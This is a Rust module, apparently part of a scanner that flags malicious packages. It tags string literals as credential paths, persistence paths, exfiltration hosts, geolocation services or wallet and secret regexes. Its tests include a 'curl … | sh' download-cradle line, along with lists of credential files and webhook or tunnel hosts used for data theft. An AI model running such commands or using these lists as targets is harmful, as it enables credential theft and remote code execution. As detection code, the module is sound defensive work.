//! What a string literal says: URLs and hosts (and whether they are exfiltration services,
//! geolocation or "what is my IP" services, raw IPs), credential and persistence paths, and
//! keyword families used by the rules. One Aho-Corasick automaton (built once) covers every
//! keyword family, so each literal is scanned once however many rules care.
//!
//! `keywords`: the families; `hosts`: URLs and hosts; `shapes`: blobs, regular
//! expressions, wallet addresses, locations.

mod hosts;
mod keywords;
mod shapes;

pub use hosts::{
    FoundUrl, HostClass, classify_host, is_local_host, is_local_target, is_public_ipv4, parse_ipv4,
    urls,
};
pub use keywords::{Families, Family, families, literal_families};
pub use shapes::{
    RegexShape, entropy, is_encoded_blob, is_location_literal, is_root_path, is_user_folder,
    is_wallet_address, regex_shape,
};

use super::taint::Taint;

/// Taint bits a literal carries by itself.
pub fn literal_taint(text: &str) -> Taint {
    if text.len() < 2 || text.len() > 4096 {
        return Taint::NONE;
    }
    literal_taint_with(text, literal_families(text))
}

/// [`literal_taint`] with the keyword families already known.
pub fn literal_taint_with(text: &str, fam: Families) -> Taint {
    let mut t = Taint::NONE;
    // (A bare `/` or `~` is a root only where it stands alone as a path argument: see
    // `Collector::arg_flow`. Between pieces of a path it is a separator.)
    if text.len() < 2 || text.len() > 4096 {
        return t;
    }
    if text.len() <= 13
        && matches!(
            text,
            "~" | "/" | "~/" | "C:\\" | "C:/" | "$HOME" | "%USERPROFILE%"
        )
    {
        t |= Taint::HOME_ROOT;
    }
    if text.len() <= 16
        && matches!(
            text,
            ".ssh"
                | ".aws"
                | ".npmrc"
                | ".gnupg"
                | ".kube"
                | ".docker"
                | ".git-credentials"
                | ".netrc"
                | "id_rsa"
                | "id_ed25519"
        )
    {
        t |= Taint::CRED_PATH;
    }
    if fam.has(Family::DevCredential) || fam.has(Family::StealerTarget) {
        t |= Taint::CRED_PATH;
    }
    if fam.has(Family::Persistence) {
        t |= Taint::PERSIST_PATH;
    }
    if text.ends_with("package.json") {
        t |= Taint::MANIFEST_PATH;
    }
    if text.contains("://") || text.contains('.') {
        for u in urls(text) {
            t |= match u.class {
                HostClass::Exfil | HostClass::RawIp => Taint::EXFIL_URL,
                HostClass::Geolocation => Taint::GEO_URL,
                HostClass::IpEcho => Taint::IP_ECHO_URL,
                HostClass::Other => Taint::NONE,
            };
        }
        if text.contains("/-/") && text.ends_with(".tgz") {
            t |= Taint::REGISTRY_URL;
        }
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exfiltration_hosts_are_recognised_by_host_not_by_substring() {
        let u = urls("https://webhook.site/abc-123");
        assert_eq!(u[0].class, HostClass::Exfil);
        assert_eq!(urls("x.oast.fun")[0].class, HostClass::Exfil);
        assert_eq!(
            urls("https://discord.com/api/webhooks/1/abc")[0].class,
            HostClass::Exfil
        );
        assert_eq!(
            urls("https://discord.com/invite/abc")[0].class,
            HostClass::Other
        );
        assert_eq!(
            urls("https://abcd.ngrok-free.app/x")[0].class,
            HostClass::Exfil
        );
        assert_eq!(
            urls("https://dashboard.ngrok.com/get-started")[0].class,
            HostClass::Other
        );
        assert_eq!(urls("http://45.9.148.3:8080/x")[0].class, HostClass::RawIp);
        assert_eq!(urls("http://127.0.0.1:8080/x")[0].class, HostClass::Other);
        assert_eq!(urls("http://192.168.1.1/")[0].class, HostClass::Other);
        assert!(urls("index.js").is_empty());
        assert!(urls("see the docs").is_empty());
        assert_eq!(
            urls("https://ipinfo.io/json")[0].class,
            HostClass::Geolocation
        );
    }

    #[test]
    fn keyword_families_need_path_or_word_shape() {
        assert!(families("/home/u/.npmrc").has(Family::DevCredential));
        assert!(families(".env").has(Family::DevCredential));
        assert!(!families("process.env").has(Family::DevCredential));
        assert!(
            families("AppData/Roaming/Discord/Local Storage/leveldb").has(Family::StealerTarget)
        );
        assert!(!families("https://discord.com/api").has(Family::StealerTarget));
        assert!(families("curl -s http://x.example/a.sh | sh").has(Family::DownloadCradle));
        assert!(families("hostname").has(Family::IdentityCommand));
        assert!(!families("getHostname").has(Family::IdentityCommand));
        assert!(families("~/.profile").has(Family::Persistence));
        assert!(!families("profile").has(Family::Persistence));
        assert!(families("Слава Україні").has(Family::Political));
    }

    #[test]
    fn wallet_and_secret_regexes_are_told_apart() {
        assert_eq!(regex_shape("\\b0x[a-fA-F0-9]{40}\\b").wallet_chains, 1);
        assert_eq!(
            regex_shape("\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b").wallet_chains,
            2
        );
        assert_eq!(regex_shape("^[a-z]+$"), RegexShape::default());
        assert_eq!(regex_shape("ghp_[A-Za-z0-9]{36}").secret_kinds, 1);
        assert!(is_wallet_address(
            "0x52908400098527886E0F7030069857D2E4169EE7"
        ));
        assert!(!is_wallet_address(
            "0x0000000000000000000000000000000000000000"
        ));
    }

    #[test]
    fn blobs_need_length_charset_and_entropy() {
        let blob: String = (0..400u32)
            .map(|i| {
                char::from(
                    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                        [(i * 37 % 64) as usize],
                )
            })
            .collect();
        assert!(is_encoded_blob(&blob));
        assert!(!is_encoded_blob(&"a".repeat(400)));
        assert!(!is_encoded_blob("short"));
    }

    #[test]
    fn location_literals() {
        assert!(is_location_literal("ru-RU"));
        assert!(is_location_literal("Europe/Moscow"));
        assert!(is_location_literal("russia"));
        assert!(!is_location_literal("utf8"));
    }
}
